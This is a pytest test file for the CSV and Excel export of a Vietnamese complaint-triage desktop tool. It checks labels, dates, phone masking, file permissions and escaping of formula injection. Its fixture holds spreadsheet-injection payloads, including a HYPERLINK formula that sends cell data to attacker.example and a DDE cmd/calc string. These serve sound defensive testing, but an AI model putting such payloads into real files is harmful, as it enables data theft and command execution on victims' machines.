"""Issue 13: `triage-desktop export --labels vi` writes the window's list export as CSV (Vietnamese headers, labels
instead of codes, dates dd/MM/yyyy HH:mm, UTF-8 with BOM, citizens' text formula-safe), and `--format xlsx`
the same table as an Excel file; machine codes stay the default. Separate processes against the sandbox, as a
script runs them; the files are read back as Excel would (csv module, openpyxl)."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.support.cli_sandbox import run_cli
from tests.support.unwritable import unwritable_folder
from triage_desktop.core import fields
from triage_desktop.core.masking import mask_phone
from triage_desktop.core.workdays import VN
from triage_desktop.sandbox.server import SandboxServer

HOSTILE = {
    "r_formula": '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "r_plus": "+84 905 123 456 gọi ngay",
    "r_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "r_minus": "-1+1 cây đổ",
}
REPORT_HEADERS = ["Mã", "Tiêu đề", "Trạng thái", "Mức độ", "Lĩnh vực", "Người xử lý", "Kênh", "Người phản ánh",
                  "Điện thoại", "Địa chỉ", "Ngày gửi", "Hạn xử lý", "Còn lại (ngày làm việc, âm: quá hạn)", "Đơn vị"]
STATUS_WORDS = {"new": "Mới", "acknowledged": "Đã tiếp nhận", "in_progress": "Đang xử lý", "resolved": "Đã xử lý",
                "closed": "Đã đóng", "transferred": "Đã chuyển đơn vị khác", "rejected": "Từ chối"}


@pytest.fixture(scope="module")
def synced(tmp_path_factory: pytest.TempPathFactory) -> Any:
    folder = tmp_path_factory.mktemp("labels")
    with SandboxServer(db=folder / "server.sqlite3", reports=25, dossiers=8, seed=5) as server:
        for item_id, title in HOSTILE.items():
            server.add_report(id=item_id, title=title)
        profile = folder / "profile"
        login = run_cli(profile, "login", "--server", server.url, "--username", "lanhdao", "--password-stdin",
                        stdin="demo123\n")
        assert login.returncode == 0, login.stderr
        done = run_cli(profile, "sync", "--once")
        assert done.returncode == 0, done.stderr
        items = {(raw["kind"], raw["id"]): raw for raw in server.all_aggregates()}
    return folder, profile, items


def local(text: str) -> str:
    return datetime.fromisoformat(text).astimezone(VN).strftime("%d/%m/%Y %H:%M")


def test_csv_with_vietnamese_labels(synced: Any) -> None:
    folder, profile, items = synced
    out = folder / "bao-cao.csv"
    done = run_cli(profile, "export", "--format", "csv", "--kind", "report", "--labels", "vi", "--output", str(out))
    assert done.returncode == 0, done.stderr
    assert "Đã xuất" in done.stderr
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Vietnamese
    if os.name != "nt":
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == REPORT_HEADERS
    reports = {raw["code"]: raw for (kind, _id), raw in items.items() if kind == "report"}
    body = rows[1:]
    assert len(body) == len(reports)
    # newest first, as the list opens
    submitted = [datetime.strptime(row[10], "%d/%m/%Y %H:%M") for row in body]
    assert submitted == sorted(submitted, reverse=True)
    for row in body:
        raw = reports[row[0]]
        assert row[2] == STATUS_WORDS[raw["status"]]
        assert row[7] == fields.person_name("report", raw)
        assert row[8] == mask_phone(fields.phone("report", raw)) and "•••" in row[8]
        assert row[10] == local(raw["submitted_at"])
        assert row[11] == (local(raw["due_at"]) if raw.get("due_at") else "")
        assert row[13] and not row[13].startswith("w_")  # the unit's name, not its id
    assert {row[3] for row in body} <= {"Thấp", "Bình thường", "Cao", "Khẩn cấp"}
    assert any(row[5] for row in body) and not any(row[5].startswith("u_") for row in body)  # names, not ids
    # Citizens' text never starts a formula; a number (working days left, negative when late) stays a number.
    titles = {row[0]: row[1] for row in body}
    for item_id, title in HOSTILE.items():
        assert titles[items[("report", item_id)]["code"]] == "'" + title
    for row in body:
        assert not row[1].startswith(("=", "+", "-", "@"))
        if row[12]:
            float(row[12].replace(",", "."))


def test_both_kinds_to_the_terminal_say_which_is_which(synced: Any) -> None:
    _folder, profile, items = synced
    done = run_cli(profile, "export", "--format", "csv", "--labels", "vi")
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(done.stdout[1:], newline="")))
    assert rows[0][:3] == ["Loại", "Mã", "Tiêu đề / Trích yếu"]
    assert len(rows) == 1 + len(items)
    assert {row[0] for row in rows[1:]} == {"Phản ánh", "Hồ sơ"}


def test_codes_stay_the_default_for_scripts(synced: Any) -> None:
    folder, profile, _items = synced
    out = folder / "codes.csv"
    assert run_cli(profile, "export", "--format", "csv", "--output", str(out)).returncode == 0
    header = next(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert header[:5] == ["kind", "id", "code", "version", "status"]


def test_xlsx_through_the_same_table(synced: Any) -> None:
    folder, profile, items = synced
    out = folder / "danh-sach.xlsx"
    done = run_cli(profile, "export", "--format", "xlsx", "--kind", "report", "--output", str(out))
    assert done.returncode == 0, done.stderr
    sheet = openpyxl.load_workbook(out).active
    header_row = next(r for r in range(1, 6) if sheet.cell(r, 1).value == "Mã")
    assert [sheet.cell(header_row, c).value for c in range(1, 15)] == REPORT_HEADERS
    assert sheet.freeze_panes == f"A{header_row + 1}"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["A"].width  # titles get room
    first = header_row + 1
    assert isinstance(sheet.cell(first, 11).value, datetime)  # a real date, not text
    assert sheet.cell(first, 11).number_format == "dd/mm/yyyy hh:mm"
    reports = {raw["code"]: raw for (kind, _id), raw in items.items() if kind == "report"}
    count = 0
    for row in sheet.iter_rows(min_row=first, values_only=True):
        raw = reports[row[0]]
        assert row[1] == raw["title"]  # an Excel cell holds text as text: no quote needed there
        assert row[10] == datetime.fromisoformat(raw["submitted_at"]).astimezone(VN).replace(tzinfo=None)
        assert row[12] is None or isinstance(row[12], int | float)  # openpyxl reads 5.0 as 5
        count += 1
    assert count == len(reports)


def test_xlsx_needs_a_file_and_jsonl_has_no_labels(synced: Any) -> None:
    _folder, profile, _items = synced
    no_file = run_cli(profile, "export", "--format", "xlsx")
    assert no_file.returncode == 2 and "--output" in no_file.stderr
    jsonl = run_cli(profile, "export", "--format", "jsonl", "--labels", "vi")
    assert jsonl.returncode == 2 and len(jsonl.stderr.strip().splitlines()) == 1


def test_a_folder_without_write_rights_is_one_clear_line(synced: Any, tmp_path: Path) -> None:
    folder, profile, _items = synced
    with unwritable_folder(tmp_path) as locked:
        done = run_cli(profile, "export", "--format", "xlsx", "--output", str(locked / "x.xlsx"))
        assert done.returncode == 2
        assert "quyền ghi" in done.stderr and len(done.stderr.strip().splitlines()) == 1
        assert not (locked / "x.xlsx").exists()
